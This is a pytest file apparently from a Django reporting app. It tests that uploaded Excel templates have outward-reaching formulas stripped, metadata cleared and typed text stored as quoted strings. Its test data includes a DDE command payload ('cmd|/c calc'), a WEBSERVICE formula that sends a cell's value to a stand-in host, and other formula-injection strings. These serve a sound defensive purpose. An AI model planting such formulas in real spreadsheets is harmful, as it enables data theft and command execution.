"""Templates that somebody sends in are hostile until they are not."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client

from bihuan.core.casework.tests.conftest import sign_in as sign_in
from bihuan.core.casework.tests.world import World
from bihuan.core.measures.models import ReturnTemplate
from bihuan.core.measures.returning import kept
from bihuan.core.measures.returning.asking import cleaned, filled

from .papers import hostile, opened, paper
from .test_pages import world as world

SignIn = Callable[[str], Client]
HOSTILE = hostile()
REACHING = (
    "='[1]Sheet1'!A1", "=[book.xlsx]Sheet1!A1", '=HYPERLINK("http://a.example","x")',
    '=WEBSERVICE("http://a.example/"&B4)', "=cmd|'/c calc'!A0", '=IMAGE("https://a.example/x")',
)  # fmt: skip


@pytest.mark.parametrize("name", list(HOSTILE))
def test_x15_a_hostile_template_is_refused_with_a_sentence(
    world: World, sign_in: SignIn, name: str
) -> None:
    """What was typed stays, and nothing is kept."""
    file = io.BytesIO(HOSTILE[name])
    file.name = name
    given = {"unit": str(world.units["district"].pk), "title": "月报表", "due_day": "5"}
    answer = sign_in("clerk").post("/returns/new/", given | {"file": file})
    assert answer.status_code == 422
    assert "field__error" in answer.content.decode()
    assert 'value="月报表"' in answer.content.decode()
    assert not ReturnTemplate.objects.exists()


@pytest.mark.parametrize("formula", REACHING)
def test_x15_formulas_that_reach_out_become_values(formula: str) -> None:
    """All others stay."""
    made, changed = cleaned(paper(B6=formula))
    sheet = opened(made)["月报"]
    assert changed == 1
    assert sheet["B6"].value is None
    assert sheet["D4"].value == "=B4-C4"


def test_x15_a_template_is_taken_without_links_and_authors(world: World, sign_in: SignIn) -> None:
    file = io.BytesIO(paper(B6="=[1]Sheet1!A1"))
    file.name = "月报.xlsx"
    given = {"unit": str(world.units["district"].pk), "title": "月报表", "due_day": "5"}
    answer = sign_in("clerk").post("/returns/new/", given | {"file": file}, follow=True)
    assert "1 个公式指向其他文件或网址" in answer.content.decode()
    found = ReturnTemplate.objects.get()
    book = opened(kept.path_of(kept.TEMPLATE, found.pk)[0].read_bytes())
    assert book.properties.creator in (None, "", "openpyxl")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "=cmd|'/c calc'!A0", "\t=1"])
def test_x15_words_in_a_cell_are_never_a_formula(text: str) -> None:
    """A text is typed as one, and quoted for whoever edits it."""
    cell: Any = opened(filled(paper(), [("月报", "B4", "t", text)]))["月报"]["B4"]
    assert cell.data_type == "s"
    assert cell.value == text
    assert cell.quotePrefix


def test_x15_formulas_of_the_template_are_never_overwritten() -> None:
    """Nor is anything put where no cell or sheet is."""
    values = [
        ("月报", "D4", "n", "9"), ("月报", "B4", "n", "9.5"), ("没有", "A1", "n", "1"),
        ("月报", "C1", "n", "1"),
    ]  # fmt: skip
    sheet = opened(filled(paper(), values))["月报"]
    assert (sheet["D4"].value, sheet["B4"].value) == ("=B4-C4", 9.5)
